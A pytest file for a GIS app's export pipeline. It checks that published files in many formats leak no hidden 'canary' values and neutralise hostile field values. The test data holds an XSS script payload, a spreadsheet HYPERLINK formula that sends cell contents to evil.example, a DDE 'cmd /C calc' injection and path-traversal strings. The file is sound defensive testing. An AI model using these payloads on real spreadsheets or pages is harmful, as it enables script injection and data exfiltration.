"""A hostile layer leaks nothing and runs nothing, in whatever form it leaves."""

from __future__ import annotations

import gzip
import io
import json
import re
import zipfile
import zlib
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pyarrow.parquet as pq
import pytest
from lxml import etree

from gisapp.desks.publish.metadata import write_metadata
from gisapp.desks.publish.metadata.dataset import Told
from gisapp.desks.publish.model import Generalisation, Publication, PublicField, Site
from gisapp.desks.publish.projection import PublicContent, public_content
from gisapp.export.content import Part
from gisapp.export.formats import FORMATS, write_content
from layers.base import Source
from layers.feedback import Feedback
from layers.project import Project
from styles.style import ByCategory, Category
from tests.gisapp.export.fake import FakeContent
from tests.layers.features import vector

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"見る")'
SECRETS = (
    "長崎花子カナリア",
    "090-7788-9911",
    "himitsu@canary.example",
    "カナリア町三丁目",
    "canary_column",
    "yamada-canary",
    "deadbeefcanary",
    "canary-style",
    "canary-group",
)
"""What stands in columns that were not chosen, in paths, hashes, names of columns, styles."""
NAMES: list[str | None] = [
    SCRIPT,
    FORMULA,
    "../../../etc/passwd",
    "C:\\Windows\\..\\x",
    "あ" * 10_000,
    "制御\x01\x02\x1b[31m\x7f\n\r\t文字",
    "\u202e名前\u2066逆\u200f",
    "𠮷野家 ～〜 ‖ ①髙﨑",
    "']]> --> <!-- &amp; &#0; %s {0}",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u0000zero",
    None,
]
COUNT = len(NAMES)
FLAT = [one for one in FORMATS if one.id not in ("obj", "glb", "tif", "copc", "3dtiles")]


def _secret(number: int) -> str:
    return SECRETS[number % 4]


@pytest.fixture(scope="module")
def content(tmp_path_factory: pytest.TempPathFactory) -> PublicContent:
    folder = tmp_path_factory.mktemp("yamada-canary")
    shapes: list[str | None] = [
        f"POLYGON (({x} 0, {x + 8} 0, {x + 8} 8.123456789, {x} 0))" for x in range(0, 10 * COUNT, 10)
    ]
    shapes[-1] = None
    columns: dict[str, list[Any]] = {
        "canary_column": [f"{SECRETS[0]}{number}" for number in range(COUNT)],
        "備考": [f"役員 {_secret(number)} まで電話" for number in range(COUNT)],
        "名称": NAMES,
        "値": [float(number) for number in range(COUNT)],
        "gml_id": ["deadbeefcanary"] * COUNT,
    }
    layer = vector(folder / "store", shapes, columns)
    layer = replace(
        layer,
        name="../../yamada-canary",
        group="canary-group",
        source=Source(folder / "himitsu@canary.example.shp", "vector", digest="deadbeefcanary"),
        style=ByCategory("canary_column", (Category("canary-style", (1, 2, 3), "canary-style"),)),
    )
    said = Publication(
        layer.id,
        "../../<b>題</b>/..\\=1+1\x00\u202e",
        description=SCRIPT,
        fields=(
            PublicField("名称", '=名前"><script>alert(1)</script>\n../..'),
            PublicField("値", "値"),
        ),
        label='=名前"><script>alert(1)</script>\n../..',
        licence="CC-BY-4.0",
        credit=f"市{SCRIPT}",
        date="2026-04-01",
    )
    return public_content(Project(layers=(layer,), crs="EPSG:6669"), layer, said, Feedback())


def _decoded(data: bytes, depth: int = 0) -> Iterator[bytes]:
    """Give bytes as they are, and what is packed in them."""
    yield data
    if depth > 3:
        return
    if data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for one in archive.infolist():
                yield one.filename.encode() + one.comment + one.extra
                yield from _decoded(archive.read(one), depth + 1)
    for place in [match.start() for match in re.finditer(rb"\x1f\x8b\x08", data)][:500]:
        try:
            yield from _decoded(zlib.decompressobj(31).decompress(data[place:]), depth + 1)
        except zlib.error:
            continue
    if data[:4] == b"PAR1":
        table = pq.read_table(io.BytesIO(data))
        yield json.dumps(table.to_pydict(), default=repr, ensure_ascii=False).encode()
        yield repr(table.schema.metadata).encode()


def _forms(secret: str) -> set[bytes]:
    found = {secret.encode(code, "ignore") for code in ("utf-8", "utf-16-le", "utf-16-be", "cp932", "euc-jp")}
    found.add(json.dumps(secret).strip('"').encode())
    return {one for one in found if len(one) >= 4}


def _leaks(files: list[Path]) -> list[tuple[str, str]]:
    found = []
    for path in files:
        for data in _decoded(path.read_bytes()):
            found += [(path.name, one) for one in SECRETS if any(form in data for form in _forms(one))]
        found += [(path.name, one) for one in SECRETS if one in path.name]
    return found


def test_the_search_finds_what_leaks(tmp_path: Path) -> None:
    packed = tmp_path / "a.zip"
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("b.gz", gzip.compress(SECRETS[0].encode("cp932")))
        archive.writestr("c.json", json.dumps({"x": SECRETS[3]}))
    (tmp_path / "d.txt").write_bytes(SECRETS[2].encode("utf-16-le"))
    assert {one for _, one in _leaks([packed, tmp_path / "d.txt"])} == {SECRETS[0], SECRETS[2], SECRETS[3]}


@pytest.mark.parametrize("form", FLAT, ids=lambda one: one.id)
def test_no_form_leaks_or_runs_anything(form: Any, content: PublicContent, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    path = write_content(content, folder / f"a{form.suffix}", Feedback())
    files = sorted(one for one in tmp_path.rglob("*") if one.is_file())
    assert all(one.parent == folder for one in files)
    assert _leaks(files) == []
    if form.id in CHECKS:
        CHECKS[form.id](path)
    again = tmp_path / "again"
    again.mkdir()
    write_content(content, again / f"a{form.suffix}", Feedback())
    assert {one.name: one.read_bytes() for one in again.iterdir()} == {
        one.name: one.read_bytes() for one in files
    }


def _csv(path: Path) -> None:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    armed = [cell for cell in cells if re.match(r"[=+\-@\t\r\n]", cell)]
    assert all(re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell) for cell in armed)
    assert "'" + FORMULA in cells


def _kml(data: bytes) -> None:
    root = etree.fromstring(data)
    kinds = {etree.QName(one).localname for one in root.iter(etree.Element)}
    assert not kinds & {"script", "img", "b", "description", "text", "NetworkLink", "href"}
    texts = [one.text for one in root.iter("{*}SimpleData")]
    assert SCRIPT in texts


def _zipped_kml(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        assert archive.namelist() == ["doc.kml"]
        _kml(archive.read("doc.kml"))


def _shapes(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            assert not re.search(r"[\\/:<>]|\.\.", name)
            assert name.isprintable()
        table = next(one for one in archive.namelist() if one.endswith("_fields.csv"))
        assert "'=" in archive.read(table).decode("utf-8-sig")


def _drawing(path: Path) -> None:
    import ezdxf.filemanagement

    drawing = ezdxf.filemanagement.readfile(path)
    assert not drawing.audit().errors
    kinds = {one.dxftype() for one in drawing.modelspace()}
    assert kinds == {"LWPOLYLINE", "TEXT"}


def _packets(path: Path) -> None:
    packets = json.loads(path.read_bytes())
    assert not any("description" in one or "script" in one for one in packets)
    assert packets[1]["name"] == SCRIPT


CHECKS: dict[str, Any] = {
    "csv": _csv,
    "kml": lambda path: _kml(path.read_bytes()),
    "kmz": _zipped_kml,
    "shpzip": _shapes,
    "dxf": _drawing,
    "czml": _packets,
}


def test_metadata_leak_nothing(content: PublicContent, tmp_path: Path) -> None:
    path = write_content(content, tmp_path / "a.geojson", Feedback())
    site = Site("公開マップ", publisher="汐見浜市", address="https://example.lg.jp/")
    made = write_metadata(content.publication, site, [path], tmp_path, Told())
    assert _leaks(list(made)) == []
    assert etree.fromstring((tmp_path / "jmp20.xml").read_bytes()) is not None
    assert all(one.parent == tmp_path for one in made)


def test_exactness_is_as_was_said_in_every_form(content: PublicContent, tmp_path: Path) -> None:
    import pyogrio

    frame = pyogrio.read_dataframe(write_content(content, tmp_path / "a.gpkg", Feedback()))
    highest = frame.geometry.bounds.maxy.max()
    assert highest == pytest.approx(8.1, abs=1e-9)  # 6 decimals of degrees are a decimetre
    frame = pyogrio.read_dataframe(write_content(content, tmp_path / "a.geojson", Feedback()))
    corners = frame.geometry.get_coordinates().to_numpy()
    assert (corners == corners.round(6)).all()


@pytest.mark.parametrize("suffix", [".obj", ".glb", ".3dtiles.zip"])
def test_solids_tell_what_was_chosen(suffix: str, tmp_path: Path) -> None:
    said = Publication("fake", "町", fields=(PublicField("title", "見出し=1"), PublicField("storeys", "階")))
    content = PublicContent(FakeContent(), said)
    path = write_content(content, tmp_path / f"a{suffix}", Feedback())
    data = b"".join(_decoded(path.read_bytes()))
    for secret in (
        "bldg 0",
        "gml_id",
        "fake.gml",
        "fake",
        "見本",
        "にせ",
        "measured_height",
        "住宅",
        "gisapp 0",
    ):
        assert secret.encode() not in data
    if suffix != ".obj":
        assert "見出し=1".encode() in data
        assert "同じ見出し".encode() in data


def test_solids_do_not_leave_where_shapes_are_coarser() -> None:
    said = Publication("fake", "町", generalisation=Generalisation(decimals=4))
    assert Part.SHAPES not in PublicContent(FakeContent(), said).offers
